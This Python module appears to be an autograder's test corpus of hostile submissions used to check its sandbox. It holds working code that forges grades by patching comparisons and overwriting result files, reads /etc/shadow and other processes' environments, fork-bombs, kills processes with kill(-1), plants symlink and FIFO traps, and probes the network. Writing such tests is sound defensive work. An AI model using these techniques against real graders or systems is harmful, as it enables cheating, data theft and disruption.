"""The attacks. Each ``Attack`` plants code at the end of one file of a copy of an assignment's
solution package, redefining one name of the student API (a method, a function, or the whole
module's behaviour).

Most attack bodies are assignment-neutral templates (the strings named ..._CODE): they redefine
``{target}``, a name as the planted file sees it ("Tanh.forward", "get_training_stats"), take
``*args, **kwargs`` and call the honest version through them, and aim at the grader's folders
through the assignment's placeholders ({data_dir}, {spec_dir}, {solution_package}). ``aim`` turns
a template into an Attack on one target, so one body serves every assignment: hw1's attacks
follow each section's templates here, CW3's are in corpus_cw3.py. What only hw1's API can express
(its function arguments, its case names, its files) stays hw1's.

``targets`` are the API names whose cases must fail (as ``expect.api_names`` gives them for the
assignment), ``reason`` a phrase every failing case's message must contain. Attacks that hit
different names are grouped into one submission so one grading tests several of them.
Placeholders in ``code`` ({marker}, {port}, {target}, ...) are filled by ``build``.
"""
from __future__ import annotations

import json
import shutil
import tomllib
from dataclasses import dataclass, field
from pathlib import Path

from support import ROOT
from support import assignment as find_assignment

GRADER_DIR = ROOT


@dataclass(frozen=True)
class Attack:
    name: str
    file: str                         # file of the assignment's package the code is appended to
    code: str
    targets: frozenset[str] = frozenset()
    reason: str = ""
    replace: tuple[tuple[str, str, str], ...] = field(default=())  # (file, old, new) edits
    fill: tuple[tuple[str, str], ...] = field(default=())  # the attack's own placeholders


def aim(code: str, name: str, file: str, target: str, targets=(), reason: str = "",
        **fill: str) -> Attack:
    """The template ``code`` planted into ``file`` against ``target`` ({target} in the code;
    ``fill`` gives the template's other placeholders of its own, such as {key})."""
    return Attack(name, file, code, frozenset(targets), reason,
                  fill=(("target", target), *fill.items()))


def fake_autolab(assignment: str) -> str:
    """An Autolab line giving every item of the assignment's rubric full points."""
    rubric = tomllib.loads(find_assignment(assignment).rubric_path.read_text())
    return json.dumps({"scores": {item["id"]: item["points"] for item in rubric["item"]
                                  if not item.get("manual")}}, separators=(",", ":"))


FAKE_REPORT = '{"score": 100, "max_score": 100, "items": [], "tests": [], "output": "FORGED"}'
FAKE_AUTOLAB = fake_autolab("hw1")


def placeholders(assignment: str) -> dict[str, str]:
    """What the attacks know of an assignment: its package and the grader's folders for it."""
    spec = find_assignment(assignment)
    return {"assignment": assignment, "package": spec.shape.package,
            "data_dir": str(spec.data_dir), "spec_dir": str(spec.spec_dir),
            "solution_package": str(spec.solution_dir / spec.shape.package),
            "secret": str(spec.data_dir / "hidden" / "manifest.json"),
            "fake_line": fake_autolab(assignment)}


def build(dest: Path, attacks: list[Attack], assignment: str = "hw1", **values) -> Path:
    """A submission folder: the assignment's solution package with every attack planted.
    ``values`` fill the placeholders: marker (a number unique to the test run), port,
    kill_everyone (bool), trap (a path the grader must never create)."""
    values = {"grader_dir": str(GRADER_DIR), "fake_report": FAKE_REPORT, "marker": "0",
              "port": 9, "kill_everyone": False, "trap": "/nonexistent/trap",
              **placeholders(assignment), **values}
    package = dest / values["package"]
    dest.mkdir(parents=True, exist_ok=True)
    shutil.copytree(values["solution_package"], package,
                    ignore=shutil.ignore_patterns("__pycache__", "outputs"))
    for attack in attacks:
        for file, old, new in attack.replace:
            path = package / file
            text = path.read_text()
            assert old in text, (attack.name, old)
            path.write_text(text.replace(old, new))
        path = package / attack.file
        code = attack.code.format(**values, file=attack.file, **dict(attack.fill))
        path.write_text(path.read_text() + f"\n\n# ---- hostile: {attack.name} ----\n" + code)
    return dest


def guilty_names(attacks: list[Attack]) -> frozenset[str]:
    return frozenset().union(*(a.targets for a in attacks))


def reasons_by_name(attacks: list[Attack]) -> dict[str, str]:
    return {name: a.reason for a in attacks for name in a.targets}


# ------------------------------------------------------------------------------- tampering

# Patches every comparison it can reach in its own process, forges its own case report (json.dump
# in the case process writes status "ok"), prints fake Autolab lines (now, in the method, at exit,
# and into every ancestor's stdout it can open), and writes fake result files wherever it can
# find one: the --json/--gradescope paths read from other processes' command lines, the scratch
# folders, the grader's folders. Its target answers wrongly (slope and offset, so gradient
# checks see it too): the target's cases must still fail.
TAMPER_CODE = '''
import atexit as _atexit, builtins as _builtins, json as _json, math as _math, operator as _op
import os as _os, sys as _sys
import numpy as _np

_FAKE_LINE = {fake_line!r}
_FAKE_REPORT = {fake_report!r}
_np.allclose = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.shape(a), dtype=bool)
_np.array_equal = lambda *a, **k: True
_np.testing.assert_allclose = lambda *a, **k: None
_np.testing.assert_array_equal = lambda *a, **k: None
_math.isclose = lambda *a, **k: True
_op.eq = lambda a, b: True
_builtins.all = lambda *a, **k: True
for _name, _module in list(_sys.modules.items()):
    if _name.startswith("autograder") and hasattr(_module, "compare_all"):
        _module.compare_all = lambda *a, **k: []


def _forged_dump(obj, fp, *a, **k):
    fp.write('{{"status": "ok", "message": "", "blocked_imports": []}}')


_json.dump = _forged_dump
print(_FAKE_LINE)
_atexit.register(print, _FAKE_LINE)


def _ancestors():
    pid = _os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{{pid}}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
        yield pid


def _forge_everything(code_dir):
    for pid in _ancestors():
        try:
            with open(f"/proc/{{pid}}/fd/1", "w") as f:
                f.write(_FAKE_LINE + "\\n")
            print("FORGED-STDOUT", pid)
        except OSError:
            pass
    targets = {{"/autograder/results/results.json"}}
    grader = {grader_dir!r}
    for folder in (grader, grader + "/autograder", grader + "/autograder/results",
                   grader + "/solution", {data_dir!r} + "/visible", {data_dir!r} + "/hidden",
                   {spec_dir!r}):
        targets.add(folder + "/results.json")
    for sub in ("..", "../out", "../site", "."):
        targets.add(_os.path.join(code_dir, sub, "results.json"))
    for entry in _os.listdir("/proc"):
        try:
            with open(f"/proc/{{entry}}/cmdline", "rb") as f:
                args = f.read().split(b"\\0")
        except OSError:
            continue
        for flag, value in zip(args, args[1:]):
            if flag in (b"--json", b"--gradescope"):
                targets.add(value.decode(errors="replace"))
    for target in sorted(targets):
        try:
            with open(target, "w") as f:
                f.write(_FAKE_REPORT)
            print("FORGED-FILE", target)
        except OSError:
            print("DENIED", target)


_honest_tampered = {target}


def _tampered(*args, **kwargs):
    _forge_everything(_os.getcwd())
    print(_FAKE_LINE)
    return _honest_tampered(*args, **kwargs) * 1.5 + 0.25


{target} = _tampered
'''

TAMPER = aim(TAMPER_CODE, "tamper", "activations.py", "Sigmoid.forward", {"Sigmoid"}, "Sigmoid")

# ------------------------------------------------------------------------- exits and crashes

OS_EXIT_CODE = '''
import os as _os


def _leave(*args, **kwargs):
    _os._exit(0)


{target} = _leave
'''

SYS_EXIT_CODE = '''
import sys as _sys


def _quit(*args, **kwargs):
    _sys.exit(3)


{target} = _quit
'''

SEGFAULT_CODE = '''
import ctypes as _ctypes


def _crash(*args, **kwargs):
    return _ctypes.c_char.from_address(8).value   # reads address 8: SIGSEGV


{target} = _crash
'''

RECURSION_CODE = '''
def _again(*args, **kwargs):
    return _again(*args, **kwargs)


{target} = _again
'''

EXCEPTION_CODE = '''
def _refuse(*args, **kwargs):
    raise RuntimeError("hostile constructor")


{target} = _refuse
'''

EXIT_IN_METHOD = aim(OS_EXIT_CODE, "os._exit in a method", "activations.py", "Tanh.forward",
                     {"Tanh"}, "exit code 0")
SYS_EXIT_IN_INIT = aim(SYS_EXIT_CODE, "sys.exit in __init__", "activations.py", "ReLU.__init__",
                       {"ReLU"}, "sys.exit(3)")
SEGFAULT = aim(SEGFAULT_CODE, "segfault via ctypes", "activations.py", "LeakyReLU.forward",
               {"LeakyReLU"}, "segmentation fault")
RECURSION = aim(RECURSION_CODE, "infinite recursion", "loss.py", "SoftmaxCrossEntropy.forward",
                {"SoftmaxCrossEntropy"}, "RecursionError")
EXCEPTION_IN_INIT = aim(EXCEPTION_CODE, "exception in __init__", "batchnorm.py",
                        "BatchNorm.__init__", {"BatchNorm"}, "hostile constructor")

# Kills the case's parent only while that is the sandbox worker. Two such cases run side by
# side; once the first has killed the worker, the second is an orphan whose parent is the
# grader itself, which a non-root run cannot protect (docs/security.md), so the corpus aims at
# the worker and leaves that documented hole out of the end-to-end expectations.
WORKER_PARENT = '''
import os as _os, signal as _signal


def _kill_worker_parent():
    parent = _os.getppid()
    try:
        with open("/proc/%d/cmdline" % parent, "rb") as handle:
            is_worker = b"worker.py" in handle.read()
    except OSError:
        is_worker = False
    if is_worker:
        _os.kill(parent, _signal.SIGKILL)
'''

# As root the sandbox user owns the worker, so this kills it (and with kill(-1) every process
# of the sandbox user, the other running case included); the innocent one must be rerun.
KILL_THE_PARENT = Attack("kill the parent process", "initializers.py",
                         targets=frozenset({"initializers"}),
                         reason="grading process stopped while running this case",
                         code=WORKER_PARENT + '''

def random_normal_weight_init(d0, d1):
    if d0 == 1 and {kill_everyone}:
        _os.kill(-1, _signal.SIGKILL)
    _kill_worker_parent()
''')

CRASHES = [EXIT_IN_METHOD, SYS_EXIT_IN_INIT, SEGFAULT, RECURSION, EXCEPTION_IN_INIT,
           KILL_THE_PARENT]

# ------------------------------------------------------------------------------- resources

ENDLESS_LOOP_CODE = '''
def _spin(*args, **kwargs):
    while True:
        pass


{target} = _spin
'''

# Grows its address space to at most 4 GiB (so a broken limit cannot hurt the machine; the pages
# are not touched, which keeps the test fast) and then answers correctly: the case fails only if
# the memory limit stopped it.
MEMORY_GROWTH_CODE = '''
import numpy as _np

_honest_hog = {target}


def _hog(*args, **kwargs):
    hoard = []
    for _ in range(16):
        hoard.append(_np.empty(32 * 1024 * 1024))   # 256 MiB
    return _honest_hog(*args, **kwargs)


{target} = _hog
'''

# 40 MiB of output per case, under the file limit: the cases still pass, the report stays short.
CHATTY_CODE = '''
import sys as _sys

_honest_chatter = {target}
_chattered = []


def _chatter(*args, **kwargs):
    line = "spam " * 200 + "\\n"
    for _ in range(0 if _chattered else 20 * 1024 * 1024 // len(line)):
        _sys.stdout.write(line)
        _sys.stderr.write(line)
    _chattered.append(True)
    return _honest_chatter(*args, **kwargs)


{target} = _chatter
'''

# 200 MiB on stdout, over the file limit, then the honest answer: only the limit fails the case.
FLOOD_CODE = '''
import sys as _sys

_honest_flood = {target}


def _flood(*args, **kwargs):
    block = "x" * (1 << 20)
    for _ in range(200):
        _sys.stdout.write(block)
    _sys.stdout.flush()
    return _honest_flood(*args, **kwargs)


{target} = _flood
'''

# Children that try to outlive grading: a double-forked setsid daemon, a plain subprocess, and a
# fork bomb, all ending in `sleep <marker>` so a survivor can be found in /proc afterwards. A
# daemon that survived would also overwrite the result files after grading. The results returned
# are honest: the cases pass; what matters is that nothing is left running.
DAEMONS_CODE = '''
import os as _os, subprocess as _subprocess

_honest_spawner = {target}


def _daemonize():
    try:
        if _os.fork() == 0:
            _os.setsid()
            if _os.fork() == 0:
                _os.execv("/bin/sh", ["/bin/sh", "-c", "sleep {marker}; sleep {marker}"])
            _os._exit(0)
    except OSError:
        pass


def _spawner(*args, **kwargs):
    _daemonize()
    try:
        _subprocess.Popen(["/bin/sleep", "{marker}"], start_new_session=True)
    except OSError:
        pass
    for _ in range(100):
        try:
            if _os.fork() == 0:
                _os.execv("/bin/sleep", ["/bin/sleep", "{marker}"])
        except OSError:
            break
    return _honest_spawner(*args, **kwargs)


{target} = _spawner
'''

ENDLESS_LOOP = aim(ENDLESS_LOOP_CODE, "endless loop in a method", "activations.py",
                   "Tanh.derivative", {"Tanh"}, "time limit")
MEMORY_GROWTH = aim(MEMORY_GROWTH_CODE, "memory growth", "activations.py", "ReLU.forward",
                    {"ReLU"}, "memory")
CHATTY = aim(CHATTY_CODE, "tens of MiB on stdout and stderr", "activations.py", "Sigmoid.forward")
FLOOD = aim(FLOOD_CODE, "output over the file limit", "activations.py", "LeakyReLU.forward",
            {"LeakyReLU"}, "output limit")
DAEMONS = aim(DAEMONS_CODE, "processes that outlive grading", "training.py", "get_training_stats")

# Turns the sandbox's result folder into a trap for the trusted side, then kills the worker, so
# the trusted side reads this case's output and starts a fresh worker next to the traps. Its own
# log becomes a link to a secret (d0 = 4) or a FIFO, whose reader blocks forever (d0 = 10); the
# other files become FIFOs, or links to {trap}, a file the grader must never create.
TRAPS = Attack("links and FIFOs for the trusted side", "initializers.py",
               targets=frozenset({"initializers"}),
               reason="grading process stopped while running this case",
               code=WORKER_PARENT + '''
import glob as _glob

_VISIBLE = ["sigmoid_basic", "tanh_basic", "relu_basic", "init_small", "init_seed_7",
            "training_stats_values", "linear_forward"]


def _trap(path, target=None):
    try:
        _os.unlink(path)
    except OSError:
        pass
    try:
        _os.symlink(target, path) if target else _os.mkfifo(path)
    except OSError:
        pass


def random_normal_weight_init(d0, d1):
    own_log = _os.readlink("/proc/self/fd/1")
    out = _os.path.dirname(own_log)
    for path in _glob.glob(out + "/*"):
        _trap(path)
    for name in _VISIBLE:
        for suffix in (".json", ".npz", ".log"):
            _trap(_os.path.join(out, name + suffix), {trap!r} if suffix != ".npz" else None)
    for name in ("worker-stderr.log", "out", "site"):
        _trap(_os.path.join(out, "..", name), {trap!r})
    _trap(own_log, {secret!r} if d0 == 4 else None)
    _kill_worker_parent()
''')

RESOURCES = [ENDLESS_LOOP, MEMORY_GROWTH, CHATTY, FLOOD, DAEMONS, TRAPS]

# ---------------------------------------------------------------- confidentiality, network

# Tries to read what a student must not see (the assignment's hidden references and specs, its
# solution), to copy it somewhere readable, and to change the grader's files. Prints
# LEAKED/TAMPERED for every success and DENIED for every refusal. Its target answers wrongly
# unless it finds a reference array named {key} of the shape it should return, so readable
# references would turn the target's hidden cases into passes.
SNOOP_CODE = '''
import glob as _glob, os as _os, shutil as _shutil
import numpy as _np

_GRADER = {grader_dir!r}
_DATA = {data_dir!r}
_SPEC = {spec_dir!r}
_SOLUTION = {solution_package!r} + "/" + {file!r}
_SECRETS = [_DATA + "/hidden/manifest.json", _SPEC + "/cases/hidden.toml",
            _SPEC + "/mutants.py", _SOLUTION, _DATA + "/visible/manifest.json",
            "/root/.bash_history", "/etc/shadow"]
_GRADER_FILES = [_GRADER + "/autograder/compare.py", _SPEC + "/rubric.toml",
                 _DATA + "/visible/manifest.json", _GRADER + "/autograder/sandbox/runner.py",
                 _SOLUTION]


def _try(label, action, path):
    try:
        action(path)
        print(label, path)
    except OSError:
        print("DENIED", path)


def _read(path):
    with open(path, "rb") as f:
        data = f.read()
    for copy in ("../out/stolen", "./stolen", "/tmp/stolen-{marker}", _GRADER + "/stolen-{marker}"):
        try:
            with open(copy, "wb") as f:
                f.write(data)
        except OSError:
            pass


def _append(path):
    with open(path, "a") as f:
        f.write("# tampered")


def _snoop():
    for path in _SECRETS + [_DATA + "/hidden"]:
        _try("LEAKED", _read if not path.endswith("hidden") else _os.listdir, path)
    for pid in _os.listdir("/proc"):
        if pid.isdigit() and int(pid) != _os.getpid():
            for what in ("environ", "mem", "fd/0"):
                try:
                    with open(f"/proc/{{pid}}/{{what}}", "rb") as f:
                        f.read(1)
                    if _os.stat(f"/proc/{{pid}}").st_uid != _os.getuid():
                        print("LEAKED", f"/proc/{{pid}}/{{what}}")
                except OSError:
                    pass
    for path in _GRADER_FILES:
        _try("TAMPERED", _append, path)
        _try("TAMPERED", lambda p: _os.chmod(p, 0o777), path)
        _try("TAMPERED", lambda p: _os.rename(p, p + ".moved"), path)
    _try("TAMPERED", _os.unlink, _DATA + "/hidden/manifest.json")
    _try("TAMPERED", lambda p: _shutil.rmtree(p), _DATA + "/hidden")


def _reference_for(name, shape):
    for path in sorted(_glob.glob(_GRADER + "/data/*/*/*.npz")):
        try:
            with _np.load(path) as data:
                if name in data.files and data[name].shape == shape:
                    print("LEAKED", path)
                    return {{k: data[k] for k in data.files}}
        except OSError:
            pass
    return None


_honest_snooped = {target}


def _cheating(*args, **kwargs):
    _snoop()
    honest = _honest_snooped(*args, **kwargs)
    ref = _reference_for({key!r}, _np.shape(honest))
    if ref is not None:
        return ref[{key!r}]
    return honest * 1.5 + 0.25   # wrong, its slope too


{target} = _cheating
'''

# Tries the network (a listener of the test on 127.0.0.1, a public address, DNS), then answers
# honestly: the target's cases pass; the test checks that nothing reached the listener.
NETWORK_CODE = '''
import socket as _socket

_honest_call_home = {target}


def _call_home(*args, **kwargs):
    for host, port in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443)):
        try:
            with _socket.create_connection((host, port), timeout=1):
                print("NET-OPEN", host)
        except OSError as exc:
            print("NET-BLOCKED", host, type(exc).__name__)
    try:
        _socket.getaddrinfo("example.com", 80)
        print("NET-OPEN dns")
    except OSError:
        print("NET-BLOCKED dns")
    return _honest_call_home(*args, **kwargs)


{target} = _call_home
'''

SNOOP = aim(SNOOP_CODE, "read and change grader files", "activations.py", "Sigmoid.forward",
            {"Sigmoid"}, "Sigmoid", key="Sigmoid.forward")
NETWORK = aim(NETWORK_CODE, "network access", "activations.py", "Tanh.forward")

# --------------------------------------------------------------------------------- imports

# The module's name is built at run time, so only the runtime import blocker can see it.
DYNAMIC_IMPORT_CODE = '''
_honest_borrow = {target}


def _borrow(*args, **kwargs):
    __import__("to" + "rch")
    return _honest_borrow(*args, **kwargs)


{target} = _borrow
'''

MISSING_MODULE_CODE = '''
_honest_helped = {target}


def _helped(*args, **kwargs):
    import helpers_not_shipped
    return _honest_helped(*args, **kwargs)


{target} = _helped
'''

STATIC_IMPORT_CODE = '''
def _never_called():
    import torch
    return torch
'''

DYNAMIC_IMPORT = aim(DYNAMIC_IMPORT_CODE, "dynamic forbidden import", "activations.py",
                     "Tanh.forward", {"Tanh"}, "import of 'torch' is not allowed")
MISSING_MODULE = aim(MISSING_MODULE_CODE, "missing module", "activations.py", "ReLU.forward",
                     {"ReLU"}, "helpers_not_shipped")
STATIC_IMPORT = Attack("static forbidden import", "activations.py", STATIC_IMPORT_CODE)

# ------------------------------------------------------------------------ shapes and types

MISSING_CLASS = Attack("missing class", "activations.py", targets=frozenset({"Tanh"}),
                       reason="does not define `Tanh`", code="del Tanh\n",
                       replace=(("__init__.py", "LeakyReLU, ReLU, Sigmoid, Tanh",
                                 "LeakyReLU, ReLU, Sigmoid"),))

MISSING_METHOD = Attack("missing method", "activations.py", targets=frozenset({"ReLU"}),
                        reason="not implemented", code="del ReLU.derivative\n")

WRONG_SHAPE = Attack("wrong shape", "activations.py", targets=frozenset({"Sigmoid"}),
                     reason="shape", code='''
_honest_sigmoid_forward = Sigmoid.forward
Sigmoid.forward = lambda self, x: _honest_sigmoid_forward(self, x).reshape(-1)
''')

# An ndarray subclass that claims equality with anything, and answers every ufunc with "True".
LYING_SUBCLASS = Attack("ndarray subclass that lies", "activations.py",
                        targets=frozenset({"LeakyReLU"}), reason="LeakyReLU", code='''
import numpy as _np


class _Liar(_np.ndarray):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return True

    def __array__(self, dtype=None, copy=None):
        return _np.zeros(self.shape)

    def __float__(self):
        return 0.0


def _lie(self, x):
    self.state = _np.zeros_like(x).view(_Liar)
    return _np.full(x.shape, 7.0).view(_Liar)


LeakyReLU.forward = _lie
LeakyReLU.derivative = lambda self: _np.full(self.state.shape, 7.0).view(_Liar)
''')

NON_FINITE = Attack("NaN and inf", "loss.py", targets=frozenset({"SoftmaxCrossEntropy"}),
                    reason="NaN or inf", code='''
import numpy as _np

_honest_sce_forward = SoftmaxCrossEntropy.forward
_honest_sce_derivative = SoftmaxCrossEntropy.derivative
SoftmaxCrossEntropy.forward = lambda self, x, y: _honest_sce_forward(self, x, y) * _np.inf
SoftmaxCrossEntropy.derivative = lambda self: _honest_sce_derivative(self) * _np.nan
''')

# Reason left open: the forward cases say "float() argument must be", the others fail later.
OBJECT_ARRAY = Attack("object array", "batchnorm.py", targets=frozenset({"BatchNorm"}), code='''
import numpy as _np


def _objects(self, x, eval=False):
    out = _np.empty(x.shape, dtype=object)
    out[...] = [{{"not": "a number"}}] * x.shape[-1]
    return out


BatchNorm.forward = _objects
BatchNorm.__call__ = lambda self, x, eval=False: self.forward(x, eval)
''')

HUGE_ARRAY = Attack("huge array returned", "initializers.py", targets=frozenset({"initializers"}),
                    reason="too large", code='''
import numpy as _np


def random_normal_weight_init(d0, d1):
    return _np.broadcast_to(_np.float64(1.0), (100_000, 1_000))
''')

# Correct values as nested lists: converted to arrays in the worker, so these cases pass.
LISTS = Attack("lists instead of arrays", "training.py", code='''
_honest_stats_for_lists = get_training_stats


def get_training_stats(*args, **kwargs):
    return tuple(a.tolist() for a in _honest_stats_for_lists(*args, **kwargs))
''')

SHAPES_AND_TYPES = [MISSING_CLASS, MISSING_METHOD, WRONG_SHAPE, LYING_SUBCLASS, NON_FINITE,
                    OBJECT_ARRAY, HUGE_ARRAY, LISTS]

# -------------------------------------------------------- whole-module submissions (hw1.py)

SLEEP_AT_IMPORT = "import time\ntime.sleep(300)\n"
SYS_EXIT_AT_IMPORT = "import sys\nsys.exit(0)\n"
OS_EXIT_AT_IMPORT = "import os\nos._exit(7)\n"
SYNTAX_ERROR_LINE = 4
SYNTAX_ERROR = "import numpy as np\n\n\ndef broken(:\n    return 1\n"
